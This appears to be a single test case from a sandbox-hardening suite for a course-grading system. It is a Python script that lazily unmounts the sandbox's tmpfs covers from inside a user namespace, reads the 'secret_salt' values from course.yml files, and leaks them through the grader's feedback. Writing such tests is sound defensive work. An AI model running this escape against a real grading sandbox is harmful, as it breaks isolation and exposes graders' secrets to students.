# attack: the sandbox's own covers taken down: in a user namespace of its own the child is root there and
# may unmount what it mounted, so the hidden folders come back (the course's, the checkout's), and the
# secret salt of every course.yml among them goes into the feedback; where /proc/self/mountinfo is closed,
# the places a cover would be are unmounted blind
# cells: dbngain
# batch: walls
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
covers = ['$COURSE', os.path.dirname('$COURSE'), os.path.expanduser('~'), '/tmp', '/var/tmp', '/dev/shm']
try:
    with open('/proc/self/mountinfo') as f:
        for line in f:
            before, _, after = line.partition(' - ')
            if after.startswith('tmpfs ') and 'size=1024k' in after:
                covers.append(before.split()[4].replace('\\040', ' '))
except OSError:
    pass
unmounted = [t for t in sorted(set(covers), key=len, reverse=True) if libc.umount2(t.encode(), 2) == 0]  # MNT_DETACH
salts = []
for target in covers:
    path = os.path.join(target, 'course.yml')
    try:
        with open(path) as f:
            salts += [line.strip() for line in f if line.startswith('secret_salt')]
    except OSError:
        pass
if salts:
    leak('uncovered ' + ' '.join(salts))
if unmounted:
    proof('unmounted ' + ' '.join(unmounted))
raise OSError(ctypes.get_errno(), 'nothing uncovered')
